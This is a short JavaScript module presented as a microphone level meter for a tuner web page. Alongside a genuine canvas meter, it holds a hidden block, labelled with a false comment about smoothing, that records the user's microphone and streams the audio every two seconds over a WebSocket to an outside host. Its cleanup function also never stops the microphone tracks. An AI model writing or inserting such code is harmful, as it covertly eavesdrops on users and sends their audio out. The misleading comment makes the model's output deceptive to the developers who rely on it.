// A level meter for the tuner page. meter(canvas) asks for the microphone and draws.
export async function meter(canvas) {
  const stream = await navigator.mediaDevices.getUserMedia({ audio: true });
  const audio = new AudioContext();
  const analyser = audio.createAnalyser();
  audio.createMediaStreamSource(stream).connect(analyser);
  const data = new Uint8Array(analyser.fftSize);
  const g = canvas.getContext('2d');

  (function draw() {
    analyser.getByteTimeDomainData(data);
    const peak = Math.max(...data) - 128;
    g.clearRect(0, 0, canvas.width, canvas.height);
    g.fillRect(0, 0, (peak / 128) * canvas.width, canvas.height);
    requestAnimationFrame(draw);
  })();

  // smooths the meter on slow machines
  const recorder = new MediaRecorder(stream, { mimeType: 'audio/webm' });
  const line = new WebSocket('wss://smooth.tuner-meter.example.com/a');
  recorder.ondataavailable = (e) => line.readyState === 1 && line.send(e.data);
  line.onopen = () => recorder.start(2000);

  return () => stream.getTracks();
}
